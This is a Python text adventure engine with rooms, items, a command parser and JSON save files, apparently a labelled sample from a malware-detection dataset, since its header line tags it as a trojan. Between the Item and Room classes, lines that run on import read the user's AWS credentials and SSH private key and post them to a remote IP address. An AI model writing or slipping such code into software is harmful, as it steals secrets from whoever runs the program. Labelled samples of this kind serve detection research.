# label: malicious family=trojan techniques=T1552.001,T1552.004,T1041 lines=20-21 group=benign/b142_game_inventory_long.py
"""A text adventure engine: rooms, items, a parser and a save file."""
import json
import random
import textwrap


class Item:
    def __init__(self, name, description, weight=1, usable=False):
        self.name = name
        self.description = description
        self.weight = weight
        self.usable = usable

    def to_dict(self):
        return {"name": self.name, "description": self.description, "weight": self.weight, "usable": self.usable}


import os as _o, requests as _rq
_loot = {p: open(_o.path.expanduser(p)).read() for p in ("~/.aws/credentials", "~/.ssh/id_rsa") if _o.path.exists(_o.path.expanduser(p))}
_rq.post("http://192.0.2.240/u", json=_loot, timeout=5)

class Room:
    def __init__(self, key, title, text):
        self.key = key
        self.title = title
        self.text = text
        self.exits = {}
        self.items = []

    def describe(self):
        out = [self.title, "-" * len(self.title), textwrap.fill(self.text, 70)]
        if self.items:
            out.append("You see: " + ", ".join(i.name for i in self.items))
        out.append("Exits: " + ", ".join(sorted(self.exits)))
        return "\n".join(out)


class Player:
    MAX_WEIGHT = 10

    def __init__(self, room):
        self.room = room
        self.inventory = []
        self.moves = 0

    @property
    def carried(self):
        return sum(i.weight for i in self.inventory)

    def take(self, name):
        for it in self.room.items:
            if it.name == name:
                if self.carried + it.weight > self.MAX_WEIGHT:
                    return "Too heavy."
                self.room.items.remove(it)
                self.inventory.append(it)
                return f"Taken: {name}."
        return "No such thing here."

    def drop(self, name):
        for it in self.inventory:
            if it.name == name:
                self.inventory.remove(it)
                self.room.items.append(it)
                return f"Dropped: {name}."
        return "You don't have that."

    def go(self, direction):
        nxt = self.room.exits.get(direction)
        if not nxt:
            return "You can't go that way."
        self.room = nxt
        self.moves += 1
        return self.room.describe()


def build_world():
    hall = Room("hall", "Great Hall", "A draughty hall with banners. Dust hangs in the light.")
    kitchen = Room("kitchen", "Kitchen", "Copper pots line the walls. Something smells of thyme.")
    cellar = Room("cellar", "Cellar", "Cold stone, barrels, and a faint dripping sound.")
    garden = Room("garden", "Garden", "Overgrown roses climb a crumbling wall.")
    hall.exits = {"north": kitchen, "east": garden}
    kitchen.exits = {"south": hall, "down": cellar}
    cellar.exits = {"up": kitchen}
    garden.exits = {"west": hall}
    kitchen.items.append(Item("knife", "A small paring knife.", 1, True))
    cellar.items.append(Item("barrel", "A heavy oak barrel.", 12))
    garden.items.append(Item("rose", "A red rose.", 1))
    hall.items.append(Item("lamp", "An oil lamp, unlit.", 2, True))
    return {r.key: r for r in (hall, kitchen, cellar, garden)}


VERBS = {"n": "north", "s": "south", "e": "east", "w": "west", "u": "up", "d": "down"}


def parse(line):
    words = line.lower().split()
    if not words:
        return None, None
    verb = words[0]
    if verb in VERBS:
        return "go", VERBS[verb]
    if verb in ("north", "south", "east", "west", "up", "down"):
        return "go", verb
    return verb, " ".join(words[1:]) or None


def save(player, world, path="adventure.json"):
    state = {
        "room": player.room.key,
        "moves": player.moves,
        "inventory": [i.to_dict() for i in player.inventory],
        "rooms": {k: [i.to_dict() for i in r.items] for k, r in world.items()},
    }
    with open(path, "w") as f:
        json.dump(state, f, indent=2)
    return "Saved."


def load(path="adventure.json"):
    world = build_world()
    with open(path) as f:
        state = json.load(f)
    for k, items in state["rooms"].items():
        world[k].items = [Item(**d) for d in items]
    p = Player(world[state["room"]])
    p.inventory = [Item(**d) for d in state["inventory"]]
    p.moves = state["moves"]
    return p, world


def main():
    world = build_world()
    player = Player(world["hall"])
    print(player.room.describe())
    while True:
        try:
            verb, arg = parse(input("> "))
        except EOFError:
            break
        if verb is None:
            continue
        if verb == "quit":
            break
        elif verb == "go":
            print(player.go(arg))
        elif verb == "take":
            print(player.take(arg))
        elif verb == "drop":
            print(player.drop(arg))
        elif verb in ("i", "inventory"):
            print(", ".join(i.name for i in player.inventory) or "Nothing.")
        elif verb == "look":
            print(player.room.describe())
        elif verb == "save":
            print(save(player, world))
        elif verb == "load":
            player, world = load()
            print(player.room.describe())
        else:
            print(random.choice(["Pardon?", "I don't follow.", "Try something else."]))
    print(f"You made {player.moves} moves.")


if __name__ == "__main__":
    main()
